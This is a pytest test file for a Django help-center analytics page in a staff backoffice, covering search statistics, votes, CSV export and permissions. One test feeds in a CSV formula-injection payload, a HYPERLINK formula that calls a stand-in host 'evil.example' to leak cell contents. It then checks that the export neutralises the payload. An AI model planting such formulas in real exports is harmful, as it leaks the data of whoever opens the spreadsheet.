"""Staff see what shoppers searched for, what found nothing, what nobody opened, and the votes; CSV too."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from retour.helpcenter.models import Article
from retour.helpcenter.services import reading

pytestmark = pytest.mark.django_db
URL = reverse("backoffice:help-analytics")


@pytest.fixture
def activity(kb_dir):
    call_command("helpcenter", "import", str(kb_dir))
    _r, found = reading.searched("remboursement carte", "fr", "v1")
    reading.searched("Remboursement carte", "fr", "v2")
    reading.clicked(found, "refund-methods", "v1")
    reading.searched("zzzqqq", "en", "v1")
    reading.searched("exchange size", "en", "v3")
    reading.vote(Article.objects.get(slug="refund-timelines"), "fr", "v1", False, "Et PayPal ?")


def test_the_page_shows_top_queries_gaps_and_votes_in_french(admin_client, activity):
    html = admin_client.get(URL, headers={"Accept-Language": "fr"}).content.decode()
    assert "remboursement carte" in html
    assert "zzzqqq" in html
    assert "Et PayPal ?" in html
    assert "requêtes sans résultat" in html


def test_csv_export(admin_client, activity):
    response = admin_client.get(URL, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    top = [r for r in rows if r[0] == "top"]
    assert top[0][1:4] == ["remboursement carte", "fr", "2"]
    assert ["no_result", "zzzqqq", "en", "1", "0", "0"] in rows
    assert any(r[0] == "no_click" and r[1] == "exchange size" for r in rows)
    assert any(r[0] == "votes" and r[1] == "refund-timelines" and r[4] == "1" for r in rows)


def test_staff_without_the_permission_cannot_see_it(db):
    user = User.objects.create_user("agent2", is_staff=True)
    client = Client()
    client.force_login(user)
    assert client.get(URL).status_code == 403
    user.user_permissions.add(Permission.objects.get(codename="view_searchlog"))
    assert Client().get(URL).status_code == 302  # not signed in: to the login page


def test_a_search_typed_as_a_formula_is_text_in_the_csv(admin_client, kb_dir):
    call_command("helpcenter", "import", str(kb_dir))
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    reading.searched(attack, "en", "v9")
    reading.searched("@SUM(1+1)", "en", "v9")
    rows = list(csv.reader(io.StringIO(admin_client.get(URL, {"format": "csv"}).content.decode())))
    cells = [cell for row in rows for cell in row]
    formulas = [cell for cell in cells if "hyperlink" in cell.lower() or "sum(" in cell.lower()]
    assert len(formulas) >= 2, cells  # the report lists both searches (as it normalises them)
    assert all(cell.startswith("'") for cell in formulas), formulas
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
